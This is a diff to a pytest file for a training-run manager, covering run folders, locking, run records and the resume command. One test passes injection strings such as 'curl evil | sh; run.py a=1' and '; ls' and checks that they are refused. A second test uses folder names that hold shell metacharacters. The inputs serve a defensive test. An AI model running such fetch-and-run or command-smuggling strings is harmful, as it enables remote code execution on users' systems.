@@ -30,7 +30,8 @@ from lsp.settings.compose import compose
 from lsp.settings.rules import from_tree
 
 pytestmark = pytest.mark.usefixtures("without_pictures")
-RECORD = {"method": "lsp", "model": "pocket", "base": "b", "init": {}, "started": 0.0}
+INIT = {"source": "pocket", "run_id": None, "method": None, "text": "base model pocket"}
+RECORD = {"method": "lsp", "model": "pocket", "base": "b", "init": INIT, "started": 0.0}
 
 
 def test_an_existing_folder_is_never_written_over(small_run, tmp_path):
@@ -52,7 +53,7 @@ def test_a_place_that_cannot_be_written_is_named(tmp_path):
 
 def test_run_ids_are_readable_and_unique_and_a_sweep_agents_is_taken(tmp_path, monkeypatch):
     config = compose([f"runs_root={tmp_path}", "method=grpo", "seed=7"])
-    (one, folder, _), (two, _, _) = create_run(config, RECORD), create_run(config, RECORD)
+    (one, folder, *_), (two, *_) = create_run(config, RECORD), create_run(config, RECORD)
     assert one != two and one.startswith("grpo-s7-") and folder.name == one
     monkeypatch.setenv("WANDB_RUN_ID", "swept1")
     assert new_run_id(config) != "swept1"  # no agent's
@@ -69,7 +70,8 @@ def test_the_shown_name_says_method_init_beta_weight_and_seed():
 
 def test_a_new_folder_holds_its_settings_and_says_that_it_starts(tmp_path):
     config = compose([f"run_dir={tmp_path / 'run'}", "optim.lr=0.25"])
-    run_id, folder, lock = create_run(config, RECORD)
+    run_id, folder, lock, made = create_run(config, RECORD)
+    assert made
     assert read_run(folder) == {"id": run_id, "status": "starting", **RECORD}
     assert from_tree(saved_tree(folder)) == config
     assert is_held(folder)
@@ -96,7 +98,7 @@ def test_of_many_that_start_at_once_in_one_folder_one_begins(tmp_path):
         thread.start()
     for thread in threads:
         thread.join()
-    ((run_id, folder, lock),) = made
+    ((run_id, folder, lock, _),) = made
     reasons = ("another process is writing", "exists and is not empty")  # as early as one looks
     assert len(refused) == 7
     assert all(any(reason in text for reason in reasons) for text in refused)
@@ -107,7 +109,7 @@ def test_of_many_that_start_at_once_in_one_folder_one_begins(tmp_path):
 def test_a_start_that_was_killed_is_taken_over_and_a_live_one_is_not(tmp_path):
     """What a kill while loading leaves: a folder in the state ``starting``."""
     config = compose([f"run_dir={tmp_path / 'run'}"])
-    _, folder, lock = create_run(config, RECORD)
+    _, folder, lock, _ = create_run(config, RECORD)
     with pytest.raises(RunError, match="another process is writing"):
         create_run(config, RECORD)
     assert (folder / "run.json").is_file()
@@ -145,7 +147,7 @@ def test_runs_come_the_newest_first(tmp_path):
 def test_what_is_no_run_is_named_with_what_it_lacks(tmp_path):
     for text in ('{"id": "x"}', "{", "5", "[]"):
         (tmp_path / "run.json").write_text(text)
-        with pytest.raises(RunError, match="its run.json cannot be read; if it was one, move it"):
+        with pytest.raises(RunError, match=r"run.json cannot be read: .*; if it was one, move it"):
             read_run(tmp_path)
 
 
@@ -153,7 +155,7 @@ def test_settings_that_are_no_settings_are_refused(tmp_path):
     save_config(compose([]), tmp_path)
     assert yaml.safe_load((tmp_path / "config.yaml").read_text())["num_steps"] == 150
     (tmp_path / "config.yaml").write_text("[1]")
-    with pytest.raises(ValueError, match="holds no settings"):
+    with pytest.raises(RunError, match="holds no settings"):
         saved_tree(tmp_path)
 
 
@@ -171,7 +173,7 @@ def test_a_base_is_what_its_weights_are_or_a_hub_id_with_its_revision(llama_fold
 
 def test_the_command_that_goes_on_can_be_pasted_whatever_the_folder_is_called(tmp_path):
     for name in ("lsp-s0-1", "a b", "x=1", "ü", "2026", "it's", "a\\", "\\'$HOME`"):
-        _, folder, lock = create_run(compose([f"runs_root={tmp_path}"]), RECORD)
+        _, folder, lock, _ = create_run(compose([f"runs_root={tmp_path}"]), RECORD)
         lock.close()
         folder = folder.rename(tmp_path / name)
         start, run_py, typed = shlex.split(go_on_command(folder))
@@ -183,7 +185,7 @@ def test_the_command_that_goes_on_can_be_pasted_whatever_the_folder_is_called(tm
 def begun(folder, *overrides):
     """What a start with these overrides leaves in a folder, up to its first line."""
     command = f"python run.py {shlex.join(overrides)}"
-    _, folder, lock = create_run(compose([*overrides, f"run_dir={folder}"]), RECORD)
+    _, folder, lock, _ = create_run(compose([*overrides, f"run_dir={folder}"]), RECORD)
     lock.close()
     update_run(folder, command=command)
     return folder
@@ -219,9 +221,9 @@ def test_making_the_command_imports_nothing_that_a_folder_names(tmp_path, monkey
 
 
 def test_only_what_a_command_line_of_this_program_said_becomes_a_command_again(tmp_path):
-    _, folder, lock = create_run(compose([f"run_dir={tmp_path / 'run'}"]), RECORD)
+    _, folder, lock, _ = create_run(compose([f"run_dir={tmp_path / 'run'}"]), RECORD)
     lock.close()
-    for command in (None, "curl evil | sh; run.py a=1", "python run.py 'a", "python run.py a=[",
+    for command in ("", "curl evil | sh; run.py a=1", "python run.py 'a", "python run.py a=[",
                     "python run.py; ls"):  # fmt: skip
         update_run(folder, command=command)
         assert begin_command(folder) == f"python run.py run_dir={folder}"
